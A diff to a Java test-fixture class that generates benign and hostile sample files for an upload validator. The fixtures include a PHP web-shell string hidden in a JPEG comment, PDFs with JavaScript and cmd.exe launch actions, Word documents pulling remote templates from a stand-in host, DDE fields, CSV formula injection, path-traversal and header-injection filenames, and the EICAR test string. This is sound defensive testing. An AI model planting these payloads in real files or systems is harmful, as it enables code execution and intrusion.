@@ -23,6 +23,11 @@ import java.util.zip.ZipEntry;
 import java.util.zip.ZipOutputStream;
 import javax.imageio.ImageIO;
 import org.apache.commons.compress.archivers.zip.Zip64Mode;
+import org.apache.pdfbox.cos.COSArray;
+import org.apache.pdfbox.cos.COSBase;
+import org.apache.pdfbox.cos.COSDictionary;
+import org.apache.pdfbox.cos.COSName;
+import org.apache.pdfbox.cos.COSString;
 import org.apache.pdfbox.pdmodel.PDDocument;
 import org.apache.pdfbox.pdmodel.PDPage;
 import org.apache.pdfbox.pdmodel.PDPageContentStream;
@@ -58,6 +63,9 @@ final class SampleFiles {
     private static final String WORD =
             "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
     private static final String SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
+
+    private static final byte[] PAGE = "<html><script>alert(1)</script></html>".getBytes(UTF_8);
+    private static final byte[] PHP = "<?php system($_GET['c']); ?>".getBytes(UTF_8);
 
     private SampleFiles() {}
 
@@ -100,7 +108,23 @@ final class SampleFiles {
                 good("a workbook called ZIP", "register.zip", xlsx(), FileType.XLSX),
                 good("an OpenDocument text", "a.odt", openDocument("text", Map.of()), FileType.ODT),
                 good("an OpenDocument sheet", "a.ods", openDocument("spreadsheet", Map.of()), FileType.ODS),
-                good("an OpenDocument presentation", "a.odp", openDocument("presentation", Map.of()), FileType.ODP));
+                good("an OpenDocument presentation", "a.odp", openDocument("presentation", Map.of()), FileType.ODP),
+                good("a PDF with two endings", "SK.pdf.exe", pdf("x"), FileType.PDF),
+                good("a PDF whose name turns round", "SK\u202Efdp.exe", pdf("x"), FileType.PDF),
+                good("a PDF with a name of 900 characters", "SK ".repeat(300) + ".pdf", pdf("x"), FileType.PDF),
+                good("a PDF with a path for a name", "../../../etc/cron.d/x", pdf("x"), FileType.PDF),
+                good("a PDF called like a device", "NUL.pdf", pdf("x"), FileType.PDF),
+                good("a PDF with a header line in its name", "a\r\nX-Evil: 1.pdf", pdf("x"), FileType.PDF),
+                good("a PDF that links to the web", "a.pdf", pdfWith(PdfTrait.LINK), FileType.PDF),
+                good("a PDF that opens at its second page", "a.pdf", pdfWith(PdfTrait.DESTINATION), FileType.PDF),
+                good("a PDF with a form", "formulir.pdf", pdfWith(PdfTrait.FORM), FileType.PDF),
+                good("a photo with PHP in its comment", "foto.php.jpg", jpegWithComment(PHP), FileType.JPEG),
+                good("a screenshot with a page behind it", "a.png", join(picture("png"), PAGE), FileType.PNG),
+                good("a table that calculates when opened", "register.csv", formulas(), FileType.CSV),
+                good("a table of negative numbers", "a.csv", "a,b\n-5,+62 811\n".getBytes(UTF_8), FileType.CSV),
+                good("one byte", "a.txt", new byte[] {'x'}, FileType.TEXT),
+                good("a Word document with links", "a.docx", related("hyperlink", "https://jdih.test/"), FileType.DOCX),
+                good("the test virus: the scanner's affair", "eicar.txt", eicar(), FileType.TEXT));
     }
 
     static List<Sample> hostile() {
@@ -226,6 +250,65 @@ final class SampleFiles {
                 bad("an archive", "a.zip", zip(Map.of("SK.pdf", pdf("x"))), Reason.TYPE),
                 bad("an archive called DOCX", "a.docx", zip(Map.of("SK.pdf", pdf("x"))), Reason.TYPE),
                 bad("a Java program", "a.jar", zip(Map.of("META-INF/MANIFEST.MF", new byte[] {'x'})), Reason.RUNS),
+                bad("the test virus under its own name", "eicar.com", eicar(), Reason.RUNS),
+                bad("a PDF with a script for the opening", "a.pdf", pdfWith(PdfTrait.OPENING_SCRIPT), Reason.RUNS),
+                bad("a PDF with a script for all", "a.pdf", pdfWith(PdfTrait.NAMED_SCRIPT), Reason.RUNS),
+                bad("a PDF with a script behind another action", "a.pdf", pdfWith(PdfTrait.NEXT_SCRIPT), Reason.RUNS),
+                bad("a PDF with a script in a form field", "a.pdf", pdfWith(PdfTrait.FIELD_SCRIPT), Reason.RUNS),
+                bad("a PDF with a script for a page", "a.pdf", pdfWith(PdfTrait.PAGE_SCRIPT), Reason.RUNS),
+                bad("a PDF with a bookmark that runs", "a.pdf", pdfWith(PdfTrait.BOOKMARK_LAUNCH), Reason.RUNS),
+                bad("a PDF that starts a program by a click", "a.pdf", pdfWith(PdfTrait.LAUNCH), Reason.RUNS),
+                bad("a PDF that calls home when opened", "a.pdf", pdfWith(PdfTrait.OPENING_CALL), Reason.RUNS),
+                bad("a PDF with a form that is a program", "a.pdf", pdfWith(PdfTrait.XFA), Reason.RUNS),
+                bad("a PDF with a film that runs", "a.pdf", pdfWith(PdfTrait.RICH_MEDIA), Reason.RUNS),
+                bad("a PDF with a file inside", "a.pdf", pdfWith(PdfTrait.FILE), Reason.FILES_INSIDE),
+                bad("a PDF with a file pinned to a page", "a.pdf", pdfWith(PdfTrait.PINNED_FILE), Reason.FILES_INSIDE),
+                bad(
+                        "a Word document with a template from elsewhere",
+                        "a.docx",
+                        related("attachedTemplate", "https://jahat.test/a.dotm"),
+                        Reason.RUNS),
+                bad(
+                        "a Word document with an object from elsewhere",
+                        "a.docx",
+                        related("oleObject", "https://jahat.test/a.html!"),
+                        Reason.RUNS),
+                bad(
+                        "a Word document with relations that cannot be read",
+                        "a.docx",
+                        office(WORD, Map.of("word/_rels/document.xml.rels", "<Relationships".getBytes(UTF_8))),
+                        Reason.BROKEN),
+                bad(
+                        "a Word document with a DDE field",
+                        "a.docx",
+                        office(WORD, Map.of("word/header1.xml", "<w:instrText> DDEAUTO c:\\\\x".getBytes(UTF_8))),
+                        Reason.RUNS),
+                bad(
+                        "a workbook with a DDE link",
+                        "a.xlsx",
+                        office(SHEET, Map.of("xl/externalLinks/externalLink1.xml", "<ddeLink/>".getBytes(UTF_8))),
+                        Reason.RUNS),
+                bad(
+                        "a Word document with a packed file inside",
+                        "a.docx",
+                        office(WORD, Map.of("word/embeddings/oleObject1.bin", packedFile())),
+                        Reason.FILES_INSIDE),
+                bad(
+                        "an OpenDocument text that calls a script",
+                        "a.odt",
+                        openDocument(
+                                "text", Map.of("content.xml", "<x href='vnd.sun.star.script:a'/>".getBytes(UTF_8))),
+                        Reason.MACROS),
+                bad("a photo with a page before it", "a.jpg", join(PAGE, picture("jpg")), Reason.RUNS),
+                bad("a program behind zeros", "a.bin", join(new byte[64], program()), Reason.TYPE),
+                bad("a disk image", "a.iso", join(new byte[32769], "CD001".getBytes(UTF_8), noise(99)), Reason.TYPE),
+                bad(
+                        "a shortcut to the web",
+                        "a.url",
+                        "[InternetShortcut]\r\nURL=file:///c:/x\r\n".getBytes(UTF_8),
+                        Reason.RUNS),
+                bad("a workbook in 3 bytes", "a.xlsx", "PK\3".getBytes(UTF_8), Reason.TYPE),
+                bad("zeros called PDF", "a.pdf", new byte[5000], Reason.TYPE),
                 bad(
                         "a RAR archive",
                         "a.rar",
@@ -267,6 +350,131 @@ final class SampleFiles {
         } catch (IOException e) {
             throw new UncheckedIOException(e);
         }
+    }
+
+    /** Something special about a PDF. */
+    private enum PdfTrait {
+        LINK,
+        DESTINATION,
+        FORM,
+        OPENING_SCRIPT,
+        NAMED_SCRIPT,
+        NEXT_SCRIPT,
+        FIELD_SCRIPT,
+        PAGE_SCRIPT,
+        BOOKMARK_LAUNCH,
+        LAUNCH,
+        OPENING_CALL,
+        XFA,
+        RICH_MEDIA,
+        FILE,
+        PINNED_FILE
+    }
+
+    private static byte[] pdfWith(PdfTrait trait) {
+        try (var document = new PDDocument()) {
+            var page = new PDPage();
+            document.addPage(page);
+            document.addPage(new PDPage());
+            var catalog = document.getDocumentCatalog().getCOSObject();
+            switch (trait) {
+                case LINK -> annotate(page, annotation("Link", action("URI")));
+                case DESTINATION -> catalog.setItem(COSName.OPEN_ACTION, action("GoTo"));
+                case FORM -> catalog.setItem(COSName.ACRO_FORM, form(new COSDictionary()));
+                case OPENING_SCRIPT -> catalog.setItem(COSName.OPEN_ACTION, action("JavaScript"));
+                case NAMED_SCRIPT -> catalog.setItem(COSName.NAMES, names("JavaScript", action("JavaScript")));
+                case NEXT_SCRIPT -> {
+                    var next = new COSArray();
+                    next.add(action("JavaScript"));
+                    var first = action("GoTo");
+                    first.setItem(COSName.NEXT, next);
+                    catalog.setItem(COSName.OPEN_ACTION, first);
+                }
+                case FIELD_SCRIPT -> {
+                    var field = new COSDictionary();
+                    field.setItem(COSName.AA, of("K", action("JavaScript")));
+                    catalog.setItem(COSName.ACRO_FORM, form(field));
+                }
+                case PAGE_SCRIPT -> page.getCOSObject().setItem(COSName.AA, of("O", action("JavaScript")));
+                case BOOKMARK_LAUNCH -> {
+                    var bookmark = of("Title", new COSString("x"));
+                    bookmark.setItem(COSName.A, action("Launch"));
+                    catalog.setItem(COSName.OUTLINES, of("First", bookmark));
+                }
+                case LAUNCH -> annotate(page, annotation("Link", action("Launch")));
+                case OPENING_CALL -> catalog.setItem(COSName.OPEN_ACTION, action("URI"));
+                case XFA -> {
+                    var form = form(new COSDictionary());
+                    form.setItem(COSName.getPDFName("XFA"), new COSString("<xdp/>"));
+                    catalog.setItem(COSName.ACRO_FORM, form);
+                }
+                case RICH_MEDIA -> annotate(page, annotation("RichMedia", null));
+                case FILE -> catalog.setItem(COSName.NAMES, names("EmbeddedFiles", fileInside(document)));
+                case PINNED_FILE -> {
+                    var pin = annotation("FileAttachment", null);
+                    pin.setItem(COSName.FS, fileInside(document));
+                    annotate(page, pin);
+                }
+            }
+            return saved(document);
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+    }
+
+    private static COSDictionary of(String key, COSBase value) {
+        var dictionary = new COSDictionary();
+        dictionary.setItem(COSName.getPDFName(key), value);
+        return dictionary;
+    }
+
+    private static COSDictionary action(String kind) {
+        var action = of("S", COSName.getPDFName(kind));
+        action.setString(COSName.getPDFName("URI"), "https://jdih.test/");
+        action.setString(COSName.F, "cmd.exe");
+        if (kind.equals("JavaScript")) {
+            action.setString(COSName.JS, "app.alert(1)");
+        }
+        return action;
+    }
+
+    private static COSDictionary annotation(String kind, @Nullable COSDictionary action) {
+        var annotation = of("Subtype", COSName.getPDFName(kind));
+        if (action != null) {
+            annotation.setItem(COSName.A, action);
+        }
+        return annotation;
+    }
+
+    private static void annotate(PDPage page, COSDictionary annotation) {
+        var annotations = new COSArray();
+        annotations.add(annotation);
+        page.getCOSObject().setItem(COSName.ANNOTS, annotations);
+    }
+
+    private static COSDictionary form(COSDictionary field) {
+        field.setItem(COSName.FT, COSName.TX);
+        field.setString(COSName.T, "nama");
+        var fields = new COSArray();
+        fields.add(field);
+        return of("Fields", fields);
+    }
+
+    private static COSDictionary names(String kind, COSDictionary value) {
+        var names = new COSArray();
+        names.add(new COSString("x"));
+        names.add(value);
+        return of(kind, of("Names", names));
+    }
+
+    private static COSDictionary fileInside(PDDocument document) throws IOException {
+        var stream = document.getDocument().createCOSStream();
+        try (var out = stream.createOutputStream()) {
+            out.write(docx());
+        }
+        var file = of("EF", of("F", stream));
+        file.setString(COSName.F, "lampiran.docx");
+        return file;
     }
 
     private static byte[] pdfWithPassword() {
@@ -318,10 +526,13 @@ final class SampleFiles {
     }
 
     private static byte[] jpegWithPdf() {
+        return jpegWithComment(pdf("x"));
+    }
+
+    private static byte[] jpegWithComment(byte[] comment) {
         var jpeg = picture("jpg");
-        var comment = pdf("x");
-        var segment = ByteBuffer.allocate(4 + comment.length);
-        segment.put((byte) 0xFF)
+        var segment = ByteBuffer.allocate(4 + comment.length)
+                .put((byte) 0xFF)
                 .put((byte) 0xFE)
                 .putShort((short) (comment.length + 2))
                 .put(comment);
@@ -443,6 +654,25 @@ final class SampleFiles {
         return parts;
     }
 
+    private static byte[] related(String kind, String target) {
+        var relations = """
+                <?xml version="1.0" encoding="UTF-8"?>
+                <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
+                <Relationship Id="rId1" TargetMode="&#69;xternal" Target="%s"
+                Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s"/></Relationships>
+                """.formatted(target, kind);
+        return office(WORD, Map.of("word/_rels/settings.xml.rels", relations.getBytes(UTF_8)));
+    }
+
+    private static byte[] packedFile() {
+        try (var files = new POIFSFileSystem()) {
+            files.getRoot().createDocument("\u0001Ole10Native", new java.io.ByteArrayInputStream(new byte[5000]));
+            return written(files::writeFilesystem);
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+    }
+
     private static byte[] officeBomb() {
         return office(WORD, Map.of("word/media/a.bin", new byte[300 * 1024 * 1024]));
     }
@@ -494,6 +724,15 @@ final class SampleFiles {
     }
 
     // ---- Bytes
+
+    /** The harmless file that every scanner knows, put together here so that none finds it in this source. */
+    static byte[] eicar() {
+        return ("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-" + "STANDARD-ANTIVIRUS-TEST-FILE!$H+H*").getBytes(UTF_8);
+    }
+
+    static byte[] formulas() {
+        return "no,nama\n1,=HYPERLINK(\"https://jahat.test\")\n2,\"@SUM(1)\"\n3,-cmd|' /C calc'!A0\n".getBytes(UTF_8);
+    }
 
     static byte[] program() {
         return join(
